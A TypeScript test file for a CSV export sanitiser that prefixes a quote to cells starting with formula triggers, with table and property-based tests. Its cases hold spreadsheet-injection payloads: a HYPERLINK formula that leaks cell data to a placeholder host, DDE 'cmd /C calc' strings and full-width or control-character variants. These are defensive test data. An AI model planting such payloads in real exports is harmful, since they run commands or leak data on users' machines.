import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { stringify } from 'csv-stringify/sync';
import { neutralizeFormula, restoreFormula } from '../../src/io/sanitize.js';

describe('neutralizeFormula', () => {
  const cases: [string, string, string][] = [
    // formulas and injection payloads (OWASP)
    ['=1+2', "'=1+2", 'equals'],
    ['=HYPERLINK("http://x.io?"&A1,"Click")', '\'=HYPERLINK("http://x.io?"&A1,"Click")', 'exfiltration link'],
    ['+1+cmd|\' /C calc\'!A0', "'+1+cmd|' /C calc'!A0", 'DDE with plus'],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0", 'DDE with minus'],
    ['@SUM(1+9)*cmd|\' /C calc\'!A0', "'@SUM(1+9)*cmd|' /C calc'!A0", 'at sign'],
    ['\t=1', "'\t=1", 'leading TAB'],
    ['\r=1', "'\r=1", 'leading CR'],
    ['\n=1', "'\n=1", 'leading LF'],
    ['\0=1', "'\0=1", 'leading NUL (ASVS)'],
    ['＝1+2', "'＝1+2", 'full-width equals'],
    ['＋1', "'＋1", 'full-width plus'],
    ['－1', "'－1", 'full-width minus (not an ASCII number)'],
    ['＠SUM(A1)', "'＠SUM(A1)", 'full-width at'],
    ['=1+2";=1+2', '\'=1+2";=1+2', 'OWASP example with a quote and separator'],
    ['-', "'-", 'a lone minus'],
    ['+', "'+", 'a lone plus'],
    ['-1+1', "'-1+1", 'arithmetic'],
    ['-A1', "'-A1", 'cell reference'],
    ['+44 20 7946 0958', '+44 20 7946 0958', 'phone with spaces (policy: kept, no letters or operators)'],
    ['+1 (555) 010-9999', '+1 (555) 010-9999', 'phone with brackets (policy: kept)'],
    ['+1 415 555 2671 ext', "'+1 415 555 2671 ext", 'phone followed by letters is neutralised'],
    ['+1+1', "'+1+1", 'an operator after the sign is neutralised'],
    ['-5 points', "'-5 points", 'number followed by words'],
    ['-0x10', "'-0x10", 'hex'],
    // plain numbers stay numbers
    ['-5', '-5', 'negative score'],
    ['+3.5', '+3.5', 'explicit plus'],
    ['-1,200.50', '-1,200.50', 'grouped negative'],
    ['-1.200,50', '-1.200,50', 'European grouped negative'],
    ['-.5', '-.5', 'leading decimal point'],
    ['+14155550123', '+14155550123', 'E.164 phone without spaces is a plain number'],
    ['-2.5E-3', '-2.5E-3', 'exponent'],
    // harmless starts
    ['', '', 'empty'],
    ['Acme', 'Acme', 'text'],
    ['42', '42', 'unsigned number'],
    [' =cmd', ' =cmd', 'leading space (not a trigger, like csv-stringify)'],
    ['a=b', 'a=b', 'equals later in the cell'],
    ["'=1+2", "'=1+2", 'already neutralised (idempotent)'],
  ];
  it.each(cases)('%j → %j (%s)', (cell, expected) => {
    expect(neutralizeFormula(cell)).toBe(expected);
  });

  it('is idempotent (property)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 12 }), (s) => {
        const once = neutralizeFormula(s);
        expect(neutralizeFormula(once)).toBe(once);
      }),
      { numRuns: 2000 },
    );
  });

  it('never leaves a cell starting with a trigger unless it is a plain signed number or a phone number (property)', () => {
    const trigger = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠');
    fc.assert(
      fc.property(trigger, fc.string({ maxLength: 10 }), (t, rest) => {
        const out = neutralizeFormula(t + rest);
        // Kept: a plain signed number, or a + followed only by digits, spaces and ().-/ (a phone
        // number: no letter, operator or separator a spreadsheet could run).
        if (out === t + rest) expect(t + rest).toMatch(/^(?:[+-][\d.,]*\d[\d.,]*(?:[eE][+-]?\d+)?|\+[\d\s().\/-]*\d[\d\s().\/-]*)$/);
        else expect(out).toBe(`'${t}${rest}`);
      }),
      { numRuns: 2000 },
    );
    // The phone exception is found by the generator too, not only by chance.
    expect(neutralizeFormula('+ 0')).toBe('+ 0');
  });

  it('quoted by the CSV writer, a payload cannot start a new cell', () => {
    const line = stringify([['=1+2";=1+2', 'ok'].map(neutralizeFormula)]);
    expect(line).toBe('"\'=1+2"";=1+2",ok\n');
  });
});

describe('restoreFormula', () => {
  const cases: [string, string][] = [
    ["'=1+2", '=1+2'],
    ["'=1+2", '=1+2'],
    ["'-5", "'-5"], // qualify never writes this, so the quote is the data
    ["'hello", "'hello"],
    ["'", "'"],
    ['=1', '=1'],
    ['', ''],
  ];
  it.each(cases)('%j → %j', (cell, expected) => {
    expect(restoreFormula(cell)).toBe(expected);
  });

  it('gives back what was neutralised (property)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 12 }), (s) => {
        fc.pre(!s.startsWith("'"));
        expect(restoreFormula(neutralizeFormula(s))).toBe(s);
      }),
      { numRuns: 2000 },
    );
  });
});
